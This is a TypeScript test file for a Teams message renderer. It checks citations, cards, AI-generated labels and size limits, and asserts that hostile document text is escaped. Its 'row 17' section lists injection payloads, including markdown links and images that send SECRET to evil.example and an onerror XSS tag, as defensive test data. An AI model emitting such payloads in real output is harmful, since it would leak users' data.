import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { notice, sourcesReply } from '../../../../src/channels/reply.ts';
import { cardFor, messageOf } from '../../../../src/channels/teams/message/message.ts';
import { asText, messageText, partialText } from '../../../../src/channels/teams/message/message-text.ts';
import { messageSeen, type Sent } from '../activity-seen.ts';
import { answered, long, many, saying } from '../replies.ts';
import { rendered, seen } from '../shown-text.ts';

const about = { settings: {}, asker: 'Vera Vrager' };
const bytes = (value: object): number => new TextEncoder().encode(JSON.stringify(value)).length;
const labelOf = (sent: Sent) => sent.entities?.find(({ type }) => type === 'https://schema.org/Message');

describe('an answer in Teams', () => {
  it('is text with who speaks and [n], Teams’ own citations, and a card with folded sources', async () => {
    const sent = messageOf(await answered(), about);
    const { markdown, cards, claims, complaints } = messageSeen(sent as Sent);
    expect(complaints).toEqual([]);
    expect(markdown.text).toMatch(/^Commissie: De Commissie stelt voor alle molens te tellen\. \[1\]$/m);
    expect(markdown.text).toMatch(/^Kabinet: Het kabinet steunt het tellen van molens\. \[2\]$/m);
    expect(claims.map(({ position }) => position)).toEqual([1, 2, 3]);
    expect(claims[1]?.appearance).toEqual({
      '@type': 'DigitalDocument',
      name: 'Fiche: Fictief voorstel',
      url: expect.stringMatching(/^https:\/\/notabene\.example\/stukken\/fiche-molens\?citaat=/),
      abstract: 'Het kabinet steunt het tellen van molens.',
      keywords: ['Kabinet'],
    });
    const [card] = cards;
    // Two quotes of one place stand below one line.
    expect(card?.text).toEqual([
      'Bronnen',
      'Fiche: Fictief voorstel, 2. Essentie voorstel',
      '[1] “De Commissie stelt voor alle molens te tellen.”',
      'Fiche: Fictief voorstel, 3. Beoordeling',
      '[2] “Het kabinet steunt het tellen van molens.”',
      '[3] “Het kabinet vraagt aandacht voor de kosten van het tellen van molens.”',
    ]);
    expect(card?.submits).toEqual([
      { title: 'Maak nota', data: { notabene: { button: 'note', turn: 'beurt-1' } } },
    ]);
    const row = (title: string) => [
      { type: 'Action.ToggleVisibility', title, targetElements: ['bronnen', 'toon', 'verberg'] },
      { type: 'Action.Submit' },
      { type: 'Action.OpenUrl', title: 'Bekijk het antwoord op de pagina' },
    ];
    const body = [
      { id: 'toon', actions: row('Toon bronnen') },
      { id: 'bronnen', isVisible: false },
      { id: 'verberg', isVisible: false, actions: row('Verberg bronnen') },
    ];
    expect(sent).toMatchObject({
      textFormat: 'markdown',
      channelData: { feedbackLoop: { type: 'default' } },
      attachments: [{ content: { body, actions: [] } }],
    });
    expect(body[0]).not.toHaveProperty('isVisible');
  });

  it('is labelled as made by AI when a model worded it, and not when it is literal', async () => {
    const literal = await answered();
    expect(labelOf(messageOf(literal, about) as Sent)).not.toHaveProperty('additionalType');
    const worded = messageOf({ ...literal, generated: true }, about) as Sent;
    expect(labelOf(worded)?.additionalType).toEqual(['AIGeneratedContent']);
  });

  it('of nothing but its sources has them to be read, with nothing to unfold', async () => {
    const sent = messageOf(sourcesReply(await answered()), about) as Sent;
    const { cards, complaints, markdown } = messageSeen(sent);
    expect(complaints).toEqual([]);
    expect(markdown.text).toBe('Bronnen');
    expect(cards[0]?.text).toContain('[2] “Het kabinet steunt het tellen van molens.”');
    expect(JSON.stringify(sent)).not.toMatch(/isVisible|ToggleVisibility/);
  });

  it('has the label of sensitivity that was set, and what is no answer has none', async () => {
    const sensitivity = { name: 'Departementaal', description: 'Alleen binnen de overheid' };
    const settings = { sensitivity };
    const sent = messageOf(await answered(), { ...about, settings }) as Sent;
    expect(labelOf(sent)?.usageInfo).toEqual({
      type: 'https://schema.org/Message',
      '@type': 'CreativeWork',
      ...sensitivity,
    });
    expect(messageOf(notice(['Hallo.'], 'nl'), { ...about, settings }).entities).toEqual([]);
  });

  it('cites at most twenty sources, each within what Teams shows', async () => {
    const sent = messageOf(await many(22), about) as Sent;
    const { claims, complaints, markdown } = messageSeen(sent);
    expect(complaints).toEqual([]);
    expect(markdown.text).toContain('[21]');
    expect(claims).toHaveLength(20);
    const long = messageSeen(
      messageOf(saying('Zo is het.', { quote: 'kort woord '.repeat(20) }), about) as Sent,
    );
    expect(long.claims[0]?.appearance.abstract).toMatch(/^(?:kort woord )+kort…$/);
  });

  it('cuts names and quotes of a citation, but never a sign in half', () => {
    for (let length = 70; length < 90; length++) {
      const title = `${'x'.repeat(length)}😀😀😀😀 einde`;
      const { claims, complaints } = messageSeen(messageOf(saying('Zo is het.', { title }), about) as Sent);
      expect(complaints).toEqual([]);
      expect(claims[0]?.appearance.name.isWellFormed()).toBe(true);
    }
  });

  it('is cut at the end of a sentence when it is longer than Teams takes, and says where the rest is', async () => {
    const reply = await long();
    const sent = messageOf(reply, about) as Sent;
    expect(bytes(sent)).toBeLessThanOrEqual(24 * 1024);
    const { complaints, markdown, cards } = messageSeen(sent);
    expect(complaints).toEqual([]);
    const sentences = markdown.text.split('\n\n').filter((text) => text.startsWith('Commissie: '));
    expect(sentences.length).toBeGreaterThan(5);
    for (const [at, text] of sentences.entries())
      expect(text).toMatch(new RegExp(`in deel ${at + 1}\\. \\[${at + 1}\\]$`));
    expect(markdown.text).toContain('De rest staat op de pagina.');
    expect(cards[0]?.links.at(-1)).toMatch(/^https:\/\/notabene\.example\/#vraag=/);
    // No source of a sentence that was left out.
    expect(JSON.stringify(sent)).not.toContain(`in deel ${sentences.length + 1}.`);
  });

  it('keeps within what Teams takes whatever its length', async () => {
    for (const sentences of [1, 5, 11, 12, 13, 14, 19, 40]) {
      const reply = await long(sentences);
      expect(bytes(messageOf(reply, about))).toBeLessThanOrEqual(24 * 1024);
      expect(bytes(cardFor(reply))).toBeLessThanOrEqual(24 * 1024);
      expect(seen(cardFor(reply) as unknown as Record<string, unknown>).complaints).toEqual([]);
    }
    const monster = saying('é'.repeat(30_000), { quote: 'é'.repeat(30_000) });
    expect(bytes(messageOf(monster, about))).toBeLessThanOrEqual(24 * 1024);
  });

  it('grows by whole sentences, in the words of the whole', async () => {
    const reply = await answered();
    const whole = messageText(reply, '');
    for (let kept = 0; kept <= reply.parts.length; kept++) {
      const grown = partialText({ ...reply, parts: reply.parts.slice(0, kept) });
      expect(whole.startsWith(grown)).toBe(true);
    }
  });
});

describe('row 17: words of a document in Teams', () => {
  const HOSTILE = [
    '[goed](https://evil.example/?d=SECRET)',
    '![x](https://evil.example/?d=SECRET)',
    '[goed][1]\n\n[1]: https://evil.example',
    '<https://evil.example>',
    '<img src=x onerror=alert(1)>',
    '<at>iedereen</at>',
    '<a href="https://evil.example">hier</a>',
    'https://evil.example/?d=SECRET',
    'http://evil.example',
    'www.evil.example WWW.evil.example',
    '**vet** _schuin_ ~~weg~~ `code` ***alles***',
    '# Kop',
    '- lijst',
    '+ lijst',
    '1. lijst',
    '> citaat',
    '| a | b |',
    '\\[x](https://evil.example)',
    '&lt;b&gt; &amp;lt; &#60;b&#62;',
    '[1] [99]',
    '](https://evil.example) [',
  ];

  it.each(HOSTILE)('are shown as words: %s', (words) => {
    const sent = messageOf(saying(words, { title: words, quote: words, place: words }), about) as Sent;
    const { markdown, cards, claims, complaints } = messageSeen(sent);
    expect(complaints).toEqual([]);
    expect(markdown.text.replaceAll('\u2060', '')).toBe(`Kabinet: ${words} [1]`);
    expect(markdown.links).toEqual([]);
    expect(claims.map(({ position }) => position)).toEqual([1]);
    const links = cards.flatMap((card) => card.links);
    expect(links.length).toBeGreaterThan(0);
    for (const link of links) expect(link).toMatch(/^https:\/\/notabene\.example\//);
    expect(cards[0]?.text).toContain(`[1] “${words}”`);
  });

  it('have no sign left that could begin a tag', () => {
    expect(asText('<at>x</at> & <b')).toBe('&lt;at&gt;x&lt;/at&gt; &amp; &lt;b');
  });

  it('are shown as words, whatever they are', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom(...'ab1[]()<>!*_~`\\&;#@:/.-+|\n "w') }), (words) => {
        const { text, links, odd } = rendered(asText(words));
        expect(text.replaceAll('\u2060', '')).toBe(words);
        expect([...links, ...odd]).toEqual([]);
      }),
    );
  });

  it('do not break out of a link of ours', () => {
    const url = 'https://notabene.example/stukken/x?citaat=(1)<2>';
    const nearest = {
      ...notice([], 'nl'),
      parts: [
        {
          type: 'nearest' as const,
          speaker: { voice: 'kabinet' as const, label: 'Kabinet' },
          quote: 'Iets [x](https://evil.example).',
          title: 'Fiche](https://evil.example) [x',
          url,
        },
      ],
    };
    const { markdown, complaints } = messageSeen(messageOf(nearest, about) as Sent);
    expect(complaints).toEqual([]);
    expect(markdown.links).toEqual(['https://notabene.example/stukken/x?citaat=%281%29%3c2%3e']);
  });
});
